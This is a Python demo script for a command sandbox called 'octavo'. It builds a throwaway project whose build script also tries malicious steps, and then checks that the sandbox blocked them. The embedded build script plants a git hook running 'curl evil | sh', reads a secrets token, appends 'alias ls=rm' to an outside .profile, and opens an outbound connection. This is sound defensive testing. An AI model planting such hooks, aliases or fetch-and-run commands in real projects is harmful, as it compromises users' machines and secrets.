"""What `make demo` shows: a real command on a small project, confined; what was allowed, what was
denied, and why. Everything happens in a temporary folder that is removed afterwards."""

import os
import subprocess
import sys
import tempfile
from pathlib import Path

OCTAVO = Path(sys.executable).parent / "octavo"
DEADLINE_S = 60

BUILD = """\
#!/bin/sh
# A build script as a dependency might ship it: some of it is honest work, some of it is not.
echo "building ..."
python3 -c 'print("def answer():\\n    return 42")' > built.py && echo "  wrote built.py"
python3 -c 'import built; assert built.answer() == 42' && echo "  its test passes"
cat config.ini > /dev/null && echo "  read config.ini"

echo "and now what nobody asked for ..."
echo 'curl evil | sh' > .git/hooks/post-commit
mkdir .codex
cat secrets/token
echo 'alias ls=rm' >> ../outside/.profile
python3 - <<'PYTHON'
import socket
try:
    socket.create_connection(("192.0.2.7", 443), timeout=2)
except OSError as error:
    print(f"  connect: {error}")
PYTHON
"""

SETTINGS = """\
default_permissions = "demo"

[permissions.demo]
extends = ":workspace"

[permissions.demo.filesystem]
":slash_tmp" = "read"        # the demo itself lives there; usually it is writable
":tmpdir" = "read"

[permissions.demo.filesystem.":workspace_roots"]
"secrets" = "deny"
"""


def main() -> int:
    with tempfile.TemporaryDirectory(
        prefix="octavo-demo-", dir=os.path.realpath(tempfile.gettempdir())
    ) as folder:
        place = Path(folder)
        project = sample(place)
        (place / "home").mkdir()
        (place / "home" / "config.toml").write_text(SETTINGS)
        env = {**os.environ, "OCTAVO_HOME": str(place / "home")}
        show(
            "A sample project, with a build script that does more than it should.",
            ["ls", "-A"],
            project,
            env,
        )
        show("What may a command do with the secrets? (nothing is run)",
             [str(OCTAVO), "sandbox", "--explain-path", "secrets/token"], project, env)  # fmt: skip
        code = show("The build, confined by the operating system:",
                    [str(OCTAVO), "sandbox", "--log-denials", "--", "sh", "build.sh"], project, env)  # fmt: skip
        return verdict(place, project, code)


def sample(place: Path) -> Path:
    project = place / "project"
    for name in (".git/hooks", "secrets"):
        (project / name).mkdir(parents=True)
    (place / "outside").mkdir()
    (place / "outside" / ".profile").write_text("# yours\n")
    (project / "secrets" / "token").write_text("hunter2\n")
    (project / "config.ini").write_text("[build]\n")
    (project / "build.sh").write_text(BUILD)
    return project


def show(title: str, command: list[str], folder: Path, env: dict[str, str]) -> int:
    shown = " ".join("octavo" if word == str(OCTAVO) else word for word in command)
    print(f"\n== {title}\n$ {shown}", flush=True)
    done = subprocess.run(command, cwd=folder, env=env, timeout=DEADLINE_S)
    return done.returncode


def verdict(place: Path, project: Path, code: int) -> int:
    """Look from outside: is everything as it should be?"""
    checks = {
        "the build's own file is there": (project / "built.py").is_file(),
        "no hook was planted": not (project / ".git/hooks/post-commit").exists(),
        "no .codex folder was left behind": not (project / ".codex").exists(),
        "the file outside is unchanged": (place / "outside/.profile").read_text() == "# yours\n",
    }
    print("\n== Seen from outside afterwards:")
    for text, holds in checks.items():
        print(f"  {'yes' if holds else 'NO '}  {text}")
    if code == 5:
        print("\nThis machine offers no mechanism to confine a command; `octavo doctor` says why.")
        return 5
    return 0 if all(checks.values()) else 1


if __name__ == "__main__":
    sys.exit(main())
